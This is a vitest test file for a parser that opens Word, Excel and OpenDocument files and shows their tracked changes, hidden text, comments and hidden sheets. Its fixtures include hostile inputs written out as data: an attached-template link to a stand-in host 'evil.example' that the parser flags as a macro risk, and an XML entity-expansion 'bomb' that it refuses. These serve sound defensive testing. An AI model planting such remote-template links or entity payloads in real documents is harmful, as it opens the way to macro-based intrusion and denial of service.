import { describe, expect, it } from 'vitest'
import { parseAt } from '../../../../../shared/kernel/pinpoint.ts'
import { zipOf } from '../archive/made-zip.fixture.ts'
import type { OpenedFile } from '../format.ts'
import { sourceOf } from '../source.ts'
import { office } from './office.ts'
import { openBy } from '../open-by.fixture.ts'

const made = (parts: Record<string, string>): Buffer =>
  zipOf(
    Object.entries({ '[Content_Types].xml': '<Types/>', ...parts }).map(([name, text]) => ({
      name,
      bytes: Buffer.from(text),
    })),
  )

const open = async (parts: Record<string, string>): Promise<OpenedFile> => {
  const bytes = made(parts)
  const source = sourceOf('a', bytes)
  expect(office.takes({ mime: undefined, start: bytes.subarray(0, 65_536) }, source)).toBe(true)
  return openBy(office, source)
}

const textOf = async (file: OpenedFile): Promise<[string, string][]> => {
  const { units, next } = (await file.text?.(0)) ?? { units: [], next: null }
  expect(next).toBeNull()
  for (const { at } of units) expect(parseAt(at)).toBeDefined()
  return units.map(({ at, text }) => [at, text])
}

const word = (body: string): string => `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`
const run = (text: string, marks = ''): string => `<w:r><w:rPr>${marks}</w:rPr><w:t>${text}</w:t></w:r>`
const by = 'w:author="Ana" w:date="2026-02-03T10:00:00Z"'

describe('a Word document', () => {
  it('shows what was deleted, inserted, hidden, struck out and remarked, in place, with who and when', async () => {
    const file = await open({
      'word/document.xml': word(
        `<w:p>${run('Meet at ')}<w:del w:id="1" ${by}><w:r><w:delText>noon</w:delText></w:r></w:del>` +
          `<w:ins w:id="2" ${by}>${run('midnight')}</w:ins>${run(' alone', '<w:vanish/>')}${run('!', '<w:vanish w:val="0"/>')}</w:p>` +
          `<w:p>${run('Pay', '<w:strike/>')}<w:r><w:commentReference w:id="7"/></w:r><w:r><w:footnoteReference w:id="2"/></w:r></w:p>` +
          `<w:tbl><w:tr><w:tc><w:p>${run('a')}</w:p></w:tc><w:tc><w:p>${run('b')}</w:p></w:tc></w:tr></w:tbl>`,
      ),
      'word/comments.xml': `<w:comments xmlns:w="w"><w:comment w:id="7" ${by}><w:p>${run('Why?')}</w:p></w:comment><w:comment w:id="8" ${by}><w:p>${run('Lost')}</w:p></w:comment></w:comments>`,
      'word/footnotes.xml': `<w:footnotes xmlns:w="w"><w:footnote w:id="2"><w:p>${run('See map')}</w:p></w:footnote></w:footnotes>`,
      'word/header1.xml': `<w:hdr xmlns:w="w"><w:p>${run('Draft')}</w:p></w:hdr>`,
      'docProps/core.xml': '<cp:coreProperties xmlns:cp="c"><dc:creator>Ana</dc:creator></cp:coreProperties>',
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Id="r1" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
      'word/vbaProject.bin': 'x',
    })
    const said = 'by Ana at 2026-02-03T10:00:00Z'
    expect(await textOf(file)).toEqual([
      ['line 1', `Meet at [deleted ${said}: noon][inserted ${said}: midnight][hidden:  alone]!`],
      ['line 2', `[struck out: Pay][comment ${said}: Why?][footnote: See map]`],
      ['line 3', 'a\tb'],
      ['line 4', '[header: Draft]'],
      ['line 5', `[comment without a place ${said}: Lost]`],
    ])
    expect(file.facts).toContainEqual({ name: 'creator', value: 'Ana', source: 'docProps/core.xml' })
    expect(file.problems.join(' ')).toMatch(/attachedTemplate.*evil\.example.*fetched.*macros/)
    expect(file.members.map(({ path }) => path)).toContain('word/vbaProject.bin')
  })

  it('sets a comment out once where much refers to it', async () => {
    const comment = `<w:comment w:id="7" ${by}><w:p>${run('long '.repeat(20_000))}</w:p></w:comment>`
    const file = await open({
      'word/document.xml': word(`<w:p>${'<w:commentReference w:id="7"/>'.repeat(5000)}</w:p>`),
      'word/comments.xml': `<w:comments xmlns:w="w">${comment}</w:comments>`,
    })
    const text = (await textOf(file)).map(([, words]) => words).join()
    expect(text.match(/long/g)).toHaveLength(20_000)
    expect(text.match(/\[comment: number 7, as above\]/g)).toHaveLength(4999)
  })

  it('reads no entities, and no more elements or depth than it may', async () => {
    const bomb = '<!DOCTYPE d [<!ENTITY a "aaaa">]><w:document><w:p><w:t>&a;</w:t></w:p></w:document>'
    await expect(open({ 'word/document.xml': bomb })).rejects.toThrow('DOCTYPE')
    await expect(open({ 'word/document.xml': word('<w:p>'.repeat(300) + '</w:p>'.repeat(300)) })).rejects.toThrow(
      '256 deep',
    )
    await expect(open({ 'word/document.xml': '<w:document><w:p>' })).rejects.toThrow('well-formed')
    await expect(open({ 'word/document.xml': word('<w:p/>'.repeat(2_000_001)) })).rejects.toThrow('2,000,000')
  }, 60_000)
})

describe('a workbook', () => {
  const sheet = (rows: string, before = ''): string => `<worksheet>${before}<sheetData>${rows}</sheetData></worksheet>`
  const book = (sheets: string, more = ''): Record<string, string> => ({
    'xl/workbook.xml': `<workbook>${more}<sheets>${sheets}</sheets></workbook>`,
    'xl/_rels/workbook.xml.rels':
      '<Relationships><Relationship Id="r1" Type="x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  })

  it('shows values as stored with their formulas, dates by the system that is said, hidden rows, columns and sheets', async () => {
    const rows =
      '<row r="2"><c r="B2" t="s"><v>0</v></c><c r="D2" s="1"><v>43363</v></c></row>' +
      '<row r="3" hidden="1"><c r="C3"><f>SUM(A1:A2)</f><v>123456789012345</v></c></row>' +
      '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    const parts = {
      'xl/worksheets/sheet1.xml': sheet(rows, '<cols><col min="3" max="3" hidden="1"/></cols>'),
      'xl/sharedStrings.xml': '<sst><si><r><t>Bud</t></r><r><t>get</t></r></si></sst>',
      'xl/styles.xml': '<styleSheet><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>',
    }
    const of1900 = await open({ ...book('<sheet name="Bu, dget" r:id="r1" state="veryHidden"/>'), ...parts })
    expect(await textOf(of1900)).toEqual([
      ['line 1', '[sheet Bu, dget, hidden]'],
      ['sheet "Bu, dget", B2:D2', 'Budget\t\t43363 [2018-09-20]'],
      ['sheet "Bu, dget", C3', '[hidden row] [hidden columns: C3] 123456789012345 [=SUM(A1:A2)]'],
      ['sheet "Bu, dget", XFD1048576', '1'],
    ])
    expect(of1900.problems.join()).toContain('does not offer to show it')
    const of1904 = await open({ ...book('<sheet name="B" r:id="r1"/>', '<workbookPr date1904="1"/>'), ...parts })
    expect((await textOf(of1904))[1]?.[1]).toContain('[2022-09-21]')
    expect(of1904.facts).toContainEqual({ name: 'Dates count from', value: '1904', source: 'xl/workbook.xml' })
  })
})

describe('an OpenDocument file', () => {
  it('sets out little of what is written once and stands often, and says so', async () => {
    const file = await open({
      'content.xml': `<o:c><text:p>${'<text:s text:c="100000"/>'.repeat(50_000)}</text:p></o:c>`,
    })
    const text = (await textOf(file)).map(([, words]) => words).join()
    expect(text.length).toBeLessThan(5_100_000)
    expect(file.problems.join()).toContain('Not all spaces and cells are set out')
  })

  it('shows what was deleted and remarked, and cells by their places', async () => {
    const text = await open({
      'content.xml':
        '<o:c><text:tracked-changes><text:changed-region xml:id="c1"><text:deletion><office:change-info><dc:creator>Ana</dc:creator></office:change-info>' +
        '<text:p>gone</text:p></text:deletion></text:changed-region></text:tracked-changes>' +
        '<text:p>Here<text:change text:change-id="c1"/><office:annotation><dc:creator>Bo</dc:creator><text:p>Why?</text:p></office:annotation></text:p></o:c>',
    })
    expect(await textOf(text)).toEqual([
      ['line 1', '[deletion, creator: Ana]'],
      ['line 2', '[deletion: gone]'],
      ['line 3', 'Here[deleted here][comment: Bo Why? ]'],
    ])
    const cell = (text: string, more = ''): string =>
      `<table:table-cell ${more}><text:p>${text}</text:p></table:table-cell>`
    const sheets = await open({
      'content.xml':
        '<o:c><office:spreadsheet><table:table table:name="B"><table:table-row table:number-rows-repeated="3"><table:table-cell/></table:table-row>' +
        `<table:table-row table:visibility="collapse"><table:table-cell table:number-columns-repeated="2"/>${cell('5', 'table:formula="of:=2+3"')}</table:table-row>` +
        '</table:table></office:spreadsheet></o:c>',
    })
    expect(await textOf(sheets)).toEqual([
      ['line 1', '[sheet B]'],
      ['sheet B, C4', '[hidden row] 5 [of:=2+3]'],
    ])
  })
})
